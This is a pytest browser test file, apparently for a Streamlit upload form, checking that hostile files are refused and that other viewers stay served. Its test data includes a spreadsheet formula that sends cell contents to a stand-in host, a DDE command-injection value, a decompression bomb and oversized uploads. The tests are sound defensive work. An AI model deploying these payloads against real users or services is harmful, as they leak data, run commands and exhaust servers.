"""Hostile files through the upload form itself: each gets a clear sentence, nothing is written, and others are served meanwhile."""

import sqlite3
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from benchmarks.server import Server
from tests.browser.conftest import window
from tests.browser.test_upload import send
from tests.intake.files import good, xlsx
from tests.intake.test_corpus import TWO, added, book
from tests.pages.wire import wire
from ui.data_upload import LARGEST_MB

pytestmark = [pytest.mark.browser, pytest.mark.slow]
LONGEST_S = 3.0
PUT = """async ([path, size]) => {
  const form = new FormData()
  form.append('file', new Blob([new Uint8Array(size)]), 'large.csv')
  const token = (document.cookie.match(/_streamlit_xsrf=([^;]*)/) || [])[1] || ''
  return (await fetch(path, {method: 'PUT', body: form, headers: {'X-Xsrftoken': token}})).status
}"""


@pytest.fixture
def page(browser: Browser, server: Server) -> Iterator[Page]:
    with window(browser, server, "/data?view=upload") as opened:
        yield opened


def written(folder: Path) -> list[int]:
    with sqlite3.connect(folder / "sajha.db") as database:
        return [
            database.execute(f"SELECT count(*) FROM {name}").fetchone()[0]
            for name in ("incident", "load", "rejected_row")
        ]


@contextmanager
def others_served(port: int) -> Iterator[None]:
    """While it lasts another viewer opens a page again and again: none may take long. The first page of a server is not counted."""
    took: list[float] = []
    done = threading.Event()

    def look() -> None:
        begun = time.monotonic()
        with wire(port, None) as session:
            session.open("situation", "period=12m")
        took.append(time.monotonic() - begun)

    def look_on() -> None:
        while not took or not done.wait(0.3):
            look()

    look()
    took.clear()
    other = threading.Thread(target=look_on)
    other.start()
    try:
        yield
    finally:
        done.set()
        other.join()
    assert max(took) < LONGEST_S, took


def million(path: Path) -> None:
    names = ["reference", "occurred_from", "kind", "status", *[f"c{n}" for n in range(1_000_000)]]
    path.write_text(",".join(names) + "\n" + ",".join(["x"] * len(names)) + "\n", encoding="utf-8")


def formulas(path: Path) -> None:
    xlsx(path, TWO, lambda _, sheet: sheet.write_formula("B2", '=WEBSERVICE("http://x/"&A1)', None, ""))


FILES = {
    "million.csv": (million, "The file has more than 1,000 columns."),
    "formulas.xlsx": (formulas, "holds a formula without a value"),
    "bomb.xlsx": (book(TWO, parts=added("xl/media/x.xml", b"<a>" + b"0" * (230 << 20))), "unpack"),
    "far.xlsx": (book(TWO, lambda _, sheet: sheet.write("XFD1048576", "x")), "lies far outside the table"),
}
"""File -> what it is, and what is said of it."""


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_gets_a_sentence_and_nobody_waits(
    name: str, page: Page, server: Server, sample_folder: Path, tmp_path: Path
) -> None:
    make, said = FILES[name]
    make(tmp_path / name)
    before = written(sample_folder)
    with others_served(server.port):
        send(page, tmp_path / name)
        expect(page.get_by_text(said)).to_be_visible(timeout=45_000)
    expect(page.get_by_role("button", name="for good")).to_have_count(0)
    assert written(sample_folder) == before


def test_a_value_that_would_become_a_formula_stays_a_text(page: Page, sample_folder: Path, tmp_path: Path) -> None:
    row = good("incident", reference="=HYPERLINK(1)", kind='=cmd|" /C calc"!A0')
    path = xlsx(tmp_path / "cells.xlsx", [row])
    before = written(sample_folder)
    send(page, path)
    expect(page.get_by_text("is not a permitted value")).to_be_visible(timeout=30_000)
    assert written(sample_folder) == before


def test_a_file_above_the_limit_is_refused_by_the_form_and_by_the_route(
    page: Page, server: Server, tmp_path: Path
) -> None:
    large = tmp_path / "large.csv"
    large.write_bytes(b"reference,kind\n" + b"x,y\n" * ((LARGEST_MB + 1) << 18))
    with others_served(server.port), wire(server.port, None) as session:
        session.open("situation", "period=12m")
        path = f"/_stcore/upload_file/{session.session}/one"
        assert page.evaluate(PUT, [path, (LARGEST_MB + 1) << 20]) == 413
        assert page.evaluate(PUT, [path, 1000]) == 204
        page.locator("input[type=file]").set_input_files(large)
        expect(page.get_by_text(f"{LARGEST_MB}.0MB or smaller")).to_be_visible(timeout=15_000)
